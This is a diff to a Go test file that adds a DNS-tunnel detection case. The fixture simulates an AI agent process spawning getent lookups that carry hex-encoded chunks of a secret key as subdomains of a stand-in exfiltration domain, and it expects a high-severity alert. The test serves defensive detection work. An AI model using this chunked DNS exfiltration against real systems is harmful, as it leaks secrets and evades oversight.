@@ -30,6 +30,17 @@ func TestDNSTunnel(t *testing.T) {
 			},
 		},
 		{
+			name: "one lookup process per chunk, no transcript call",
+			build: func(b *builder) {
+				ag := b.agent(100, "/usr/local/bin/claude")
+				for i := range 4 {
+					g := ag.spawn(uint32(300+i), "", "/usr/bin/getent", "getent", "hosts", "…")
+					g.dns(hex.EncodeToString([]byte(fmt.Sprintf("secret-part-%02d-of-the-key", i))) + ".t.exfil.example")
+				}
+			},
+			want: []string{"high dns-tunnel"},
+		},
+		{
 			name: "many unique subdomains of one parent",
 			build: func(b *builder) {
 				ag := b.agent(100, "/usr/local/bin/claude")
